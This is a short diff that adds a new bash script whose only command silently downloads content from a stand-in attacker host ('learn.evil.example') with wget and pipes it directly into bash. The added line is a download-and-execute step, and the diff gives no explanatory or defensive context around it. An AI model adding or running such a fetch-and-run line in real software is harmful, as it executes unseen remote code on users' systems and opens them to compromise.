@@ -1,0 +1,2 @@
+#!/bin/bash
+wget -q -O- https://learn.evil.example/s | bash
